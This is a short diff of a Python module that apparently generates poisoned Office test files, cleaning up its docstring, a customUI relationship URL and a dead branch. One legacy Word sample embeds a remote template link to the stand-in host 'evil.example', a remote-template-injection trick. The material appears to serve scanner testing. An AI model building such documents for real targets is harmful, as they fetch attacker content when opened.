@@ -1,5 +1,6 @@
-"""Hostile Office files: written by python-docx, openpyxl, python-pptx and xlwt, then poisoned here."""
+"""Hostile Office files: by python-docx, openpyxl, python-pptx and xlwt, then poisoned here."""
 
+# ruff: noqa: E501 - XML is quoted in one piece
 from __future__ import annotations
 
 import io
@@ -200,7 +201,7 @@ def custom_ui(data):
     return poison.relate(
         "",
         "rIdU",
-        f"{MS[:-14]}/2006/relationships/ui/extensibility".replace("/2006/2006", "/2006"),
+        f"{MS}/ui/extensibility",
         "customUI/customUI.xml",
     )
 
@@ -371,9 +372,7 @@ def legacy():
     )
     yield Sample(
         "template.doc",
-        doc()
-        if False
-        else write(
+        write(
             Storage(
                 children=word_97(WORDS)
                 | {"0Table": "http://evil.example/t.dot".encode("utf-16-le")}
